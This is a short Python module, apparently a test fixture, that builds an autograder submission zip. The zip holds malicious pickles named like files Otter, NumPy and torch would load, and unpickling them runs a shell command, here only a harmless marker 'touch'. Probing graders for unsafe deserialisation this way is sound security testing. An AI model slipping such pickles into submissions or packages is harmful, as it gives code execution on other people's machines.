"""Hands in pickles under the names that Otter, NumPy and torch would open."""

import pickle
import zipfile
from pathlib import Path

NEEDS = "nothing"
SEEN = "graded"
STATUS = "graded"


class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/left-by-an-attack-log",)


def hand_in(folder: Path, notebook: bytes) -> Path:
    made = folder / "handed_in.zip"
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("bn_drop.ipynb", notebook)
        for name in (".OTTER_LOG", "results.pkl", "base.pt", "data.npy", ".otter"):
            archive.writestr(name, pickle.dumps(Bomb()))
    return made
